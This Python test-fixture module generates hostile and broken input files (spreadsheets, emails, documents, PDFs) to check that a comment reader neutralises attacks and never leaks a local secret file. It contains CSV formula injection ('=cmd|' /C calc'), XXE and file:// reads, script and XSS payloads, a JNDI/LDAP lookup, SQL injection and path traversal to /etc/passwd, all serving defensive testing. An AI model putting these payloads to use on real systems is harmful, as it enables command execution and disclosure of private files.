"""Hostile and broken files of every shape, made when the tests run: what each has to end in stands beside it.

`hostile_files(secret)` gives them all. `secret` is a file on this disk that many of them point to: its words must never
come out of a reading.
"""

from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from hostile_shapes import LETTERS, SHAPES, Letters
from hostile_structures import broken_files


@dataclass(frozen=True)
class Hostile:
    """One file and how it has to end.

    `comments`: how many comments (or items, or sections) it is read as; None: any number, or a refusal. `holds` has to
    stand in them, white space aside. `refused`: a pattern of the one sentence it is refused with, '' for none.
    """

    name: str
    data: bytes
    comments: int | None = None
    holds: tuple[str, ...] = ()
    refused: str = ""

    @property
    def shape(self) -> str:
        """The file's own name without what is evil about it."""
        return self.name.rpartition("~")[2]


@dataclass(frozen=True)
class _Evil:
    """Words that somebody may send. `holds` has to come out; nothing given: all of it."""

    name: str
    text: str
    holds: tuple[str, ...] = ()
    no_xml: bool = False


_KEEP = "please keep the harbor ferry"
_FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", '=HYPERLINK("http://tracker.example","here")')
_SINGLE = ("letter.eml", "page-letter.eml", "letter.msg", "packet.txt", "policy.txt", "policy.docx")
_XML_SHAPES = ("list.ods", "table.docx", "table.odt", "policy.docx", "list.xlsx")
_PLAIN_CELLS = ("list.csv", "list.tsv", "list.xlsx", "list.xls", "list.ods", "table.docx", "table.odt", "lists.zip")
"""Where a cell may hold HTML, so that tags are taken for such."""


def _evils(secret: Path) -> list[_Evil]:
    evils = [_Evil(f"formula-{place}", f"{start} {_KEEP}") for place, start in enumerate(_FORMULAS)]
    evils += [
        _Evil("tab-formula", f"\t=1+1 {_KEEP}", ("=1+1", _KEEP)),
        _Evil("cr-formula", f"\r=1+1 {_KEEP}", (_KEEP,)),
    ]
    evils += [
        _Evil(name, f"Council, {_KEEP} {text} running at night, thank you.", holds, bare)
        for name, text, holds, bare in (
            ("paper-markup", f'<para><img src="file://{secret}"/><font size="900">big</font>', (_KEEP,), False),
            ("page-script", "<script>alert(1)</script><b onmouseover=alert(2)>bold</b>", (_KEEP,), False),
            ("pixel", '<img src="http://tracker.example/p.gif" width="1" height="1">', (_KEEP,), False),
            ("unc", r'<img src="\\files.example\share\p.png">', (_KEEP,), False),
            ("file-link", f'<iframe src="file://{secret}"></iframe>', (_KEEP,), False),
            ("entity", f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]>&x;', (_KEEP,), False),
            ("section-end", "]]> --> */ %>", (_KEEP, "running at night"), False),
            (
                "template",
                "{{7*7}} ${jndi:ldap://x.example/a} %s%n%x {0}",
                ("${jndi:ldap://x.example/a} %s%n%x {0}",),
                False,
            ),
            ("sql", "'); DROP TABLE comments;--", ("'); DROP TABLE comments;--",), False),
            ("nul", "a\x00b", (_KEEP, "running at night"), True),
            ("control", "bell\x07 back\x08 esc\x1b[31m red", (_KEEP, "running at night"), True),
            ("surrogate", "a \ud800 b", (_KEEP, "running at night"), True),
            ("nonchar", "a \ufffe \uffff \U0010ffff b", (_KEEP, "running at night"), True),
            ("bidi", "\u202eyrref\u202c \u2066a\u2069", (_KEEP, "yrref"), False),
            ("zalgo", "Z" + "\u0335\u0347\u0301" * 400 + "algo", (_KEEP, "algo"), False),
            ("zero-width", "fer\u200bry\u200d\u2060 \ufeffnow", (_KEEP, "running at night"), False),
            ("separators", "one\u2028two\u2029three\x85four", (_KEEP, "running at night"), False),
            ("feeds", "one\x0btwo\x0cthree", (_KEEP, "running at night"), True),
            ("scripts", "שלום مرحبا 你好 นี่ 👩‍👩‍👧‍👦", ("你好", "مرحبا"), False),
            ("long-word", "w" * 200_000, (_KEEP, "w" * 7_000), False),
            ("long-line", "ferry boat " * 60_000, (_KEEP,), False),
            ("quotes", 'He said "no, never", and "so', ('"no, never", and "so',), False),
            ("from-line", "\nFrom the pier, 28 Apr 2026, all was dark\n", ("From the pier, 28 Apr 2026",), False),
            ("envelope", "\n\nFrom a@b.example Tue Apr 28 10:00:00 2026\n\n", (_KEEP,), False),
            ("boundary", "\n--b\nContent-Type: text/html\n\n--b--\n", (_KEEP,), False),
            ("traversal", r"../../../etc/passwd C:\CON.txt", (r"../../../etc/passwd C:\CON.txt",), False),
            ("dates", "31/02/2026 99:99 and 2026-13-45T25:61", ("31/02/2026 99:99 and 2026-13-45T25:61",), False),
        )
    ]
    return evils


def hostile_files(secret: Path) -> Iterator[Hostile]:
    """Give every file: each evil in each shape where it can stand, and files broken in their own ways."""
    for evil in _evils(secret):
        for shape, make in SHAPES.items():
            if _can_stand(evil, shape):
                yield _with_words(evil, shape, make([("Rosa Vale", evil.text), *LETTERS[1:]]))
    for shape, make in SHAPES.items():
        for name, writer in (("named-formula", "=1+1"), ("named-path", "../../x"), ("named-tag", "<b>&amp;")):
            if shape not in ("packet.txt", "policy.txt", "policy.docx"):
                yield Hostile(f"{name}~{shape}", make([(writer, LETTERS[0][1]), *LETTERS[1:]]), _count(shape))
    yield from _broken(secret)


def _can_stand(evil: _Evil, shape: str) -> bool:
    if shape == "packet.pdf":  # its font has no other letters, and 200,000 in a row leave the page
        return evil.text.isascii() and evil.text.isprintable() and len(evil.text) < 1000
    if shape in ("list.xls", "policy.docx") and len(evil.text) > 3_000:
        return shape == "policy.docx"
    return True


def _with_words(evil: _Evil, shape: str, data: bytes) -> Hostile:
    if evil.no_xml and shape in (*_XML_SHAPES, "letter.msg", "list.xls"):
        return Hostile(f"{evil.name}~{shape}", data)
    if evil.name == "boundary" and shape == "page-letter.eml":
        return Hostile(f"{evil.name}~{shape}", data, 1)
    holds = evil.holds or ((_KEEP,) if shape in _PLAIN_CELLS and "<" in evil.text else (evil.text,))
    return Hostile(f"{evil.name}~{shape}", data, _count(shape), holds)


def _count(shape: str) -> int:
    return 1 if shape in _SINGLE else 3


def _broken(secret: Path) -> Iterator[Hostile]:
    for name, data, comments, refused in broken_files(secret):
        yield Hostile(name, data, comments, (), refused)
    for shape, make in SHAPES.items():
        data = make(LETTERS)
        for keep in (0.1, 0.5, 0.9):
            yield Hostile(f"cut-{keep}~{shape}", data[: int(len(data) * keep)])
        yield Hostile(f"zeros~{shape}", data[: len(data) // 2] + bytes(len(data) - len(data) // 2))
        yield Hostile(f"twice~{shape}", data + data)
        yield Hostile(f"behind~{shape}", data + b"\xff\x00\xfe" * 50)
        yield Hostile(f"before~{shape}", b"\r\n \t" + data)


def few(files: Sequence[Hostile], *starts: str) -> list[Hostile]:
    """Those files whose names begin so."""
    return [file for file in files if file.name.startswith(starts)]


__all__ = ["Hostile", "Letters", "few", "hostile_files"]
